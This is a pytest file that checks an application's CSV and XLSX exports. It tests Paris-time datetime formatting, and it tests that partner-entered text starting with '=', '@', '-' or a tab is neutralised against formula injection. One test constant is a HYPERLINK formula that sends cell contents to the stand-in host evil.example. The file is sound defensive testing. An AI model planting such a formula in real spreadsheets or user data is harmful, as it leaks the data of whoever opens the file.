"""The export helper: aware datetimes are written as Paris wall-clock time, in CSV and XLSX."""

import datetime
from decimal import Decimal

import pytest

from pacte.core.exports import csv_response, xlsx_response
from tests.export_helpers import csv_rows, xlsx_rows

UTC = datetime.UTC


def test_aware_datetimes_are_local_time_in_csv_and_xlsx():
    moment = datetime.datetime(2024, 7, 14, 22, 30, tzinfo=UTC)  # 15/07 00:30 in Paris
    header, rows = ["Quand", "Montant", "Part"], [[moment, Decimal("12.5"), Decimal("33.33")]]
    assert csv_rows(csv_response("x", header, rows))[1] == ["15/07/2024 00:30", "12,50", "33,33"]
    response = xlsx_response("x", header, rows, number_formats={2: "0.00"})
    # Excel has no time zone: the naive wall-clock time of Paris.
    assert xlsx_rows(response)[1][0] == datetime.datetime(2024, 7, 15, 0, 30)  # noqa: DTZ001


# --- Inert exports ------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?x="&C2&D2,"Ouvrir le dossier")'


def test_a_formula_typed_by_a_partner_is_plain_text_in_every_export(client_for, users, db):
    import io

    from openpyxl import load_workbook

    from pacte.contracts.models import Generation
    from tests.export_helpers import csv_rows
    from tests.operations.conftest import make_operation, signed_contract

    generation = Generation.objects.get(framework_deliberation_number="2022-317")
    contract = signed_contract(generation, "246200364", users["test-agent"])
    operation = make_operation(contract, users["test-partner"], title=FORMULA)
    from pacte.operations import services

    services.operation_submit(actor=users["test-partner"], operation=operation)
    client = client_for("agent")
    rows = csv_rows(client.get("/operations/?format=csv&q=HYPERLINK"))
    titles = [cell for row in rows for cell in row if "HYPERLINK" in cell]
    assert titles == ["'" + FORMULA]
    response = client.get("/operations/?format=xlsx&q=HYPERLINK")
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [c for row in sheet.iter_rows() for c in row if "HYPERLINK" in str(c.value)]
    assert [(c.value, c.data_type, c.quotePrefix) for c in cells] == [(FORMULA, "s", True)]
    assert b"<f>" not in _sheet_xml(response.content)


def _sheet_xml(content: bytes) -> bytes:
    import io
    import zipfile

    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read("xl/worksheets/sheet1.xml")


def test_a_partners_name_set_in_the_admin_is_inert_in_the_partners_export(client_for, db):
    from pacte.contracts.models import Partner
    from tests.export_helpers import csv_rows, xlsx_rows

    Partner.objects.filter(siren="246200364").update(name="@SUM(A1:A9)")
    client = client_for("admin")
    assert ["'@SUM(A1:A9)"] in [
        [c for c in row if "SUM" in c] for row in csv_rows(client.get("/partenaires/?format=csv"))
    ]
    response = client.get("/partenaires/?format=xlsx")
    assert any("@SUM(A1:A9)" in row for row in xlsx_rows(response))
    assert b"<f>" not in _sheet_xml(response.content)


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+33 1 23 45 67 89", "+33 1 23 45 67 89"),
        ("-12,50", "-12,50"),
        ("-2+3", "'-2+3"),
        ("@foo", "'@foo"),
        ("\tcmd", "'\tcmd"),
        ("Salle des fêtes", "Salle des fêtes"),
    ],
)
def test_what_is_made_inert(value, shown):
    from pacte.core.exports import inert

    assert inert(value) == shown


def test_control_characters_a_spreadsheet_cannot_hold_are_left_out():
    header, rows = ["Intitulé"], [["Salle\x01 des\x07 fêtes\x1b\x0b\x0c, « 1re » tranche\tet\nfin"]]
    response = xlsx_response("x", header, rows)
    assert response.status_code == 200
    assert xlsx_rows(response)[1][0] == "Salle des fêtes, « 1re » tranche\tet\nfin"
